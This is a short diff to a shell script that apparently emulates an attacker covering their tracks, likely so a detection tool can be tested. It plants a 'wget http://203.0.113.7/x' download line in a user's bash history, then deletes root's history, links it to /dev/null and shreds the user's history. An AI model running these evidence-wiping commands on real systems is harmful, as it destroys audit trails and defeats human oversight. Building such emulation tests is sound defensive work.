@@ -11,11 +11,12 @@
 
 user=vigil-emul-hist2
 emul_user "$user"
-printf 'ls\nwget http://203.0.113.7/x\n' >"/home/$user/.bash_history"
-chown "$user:$user" "/home/$user/.bash_history"
+emul_tmpdir
+printf 'ls\nwget http://203.0.113.7/x\n' >"$EMUL_DIR/h"
+emul_setup_file "/home/$user/.bash_history" 600 "$user:$user" "$EMUL_DIR/h"
+[ -e "$HOME/.bash_history" ] || { echo ls >"$EMUL_DIR/r"; emul_setup_file "$HOME/.bash_history" 600 root:root "$EMUL_DIR/r"; }
 sleep 0.5
 emul_backup "$HOME/.bash_history"
-[ -e "$HOME/.bash_history" ] || echo ls >"$HOME/.bash_history"
 rm -f "$HOME/.bash_history"
 ln -sf /dev/null "$HOME/.bash_history"
 shred -u "/home/$user/.bash_history"
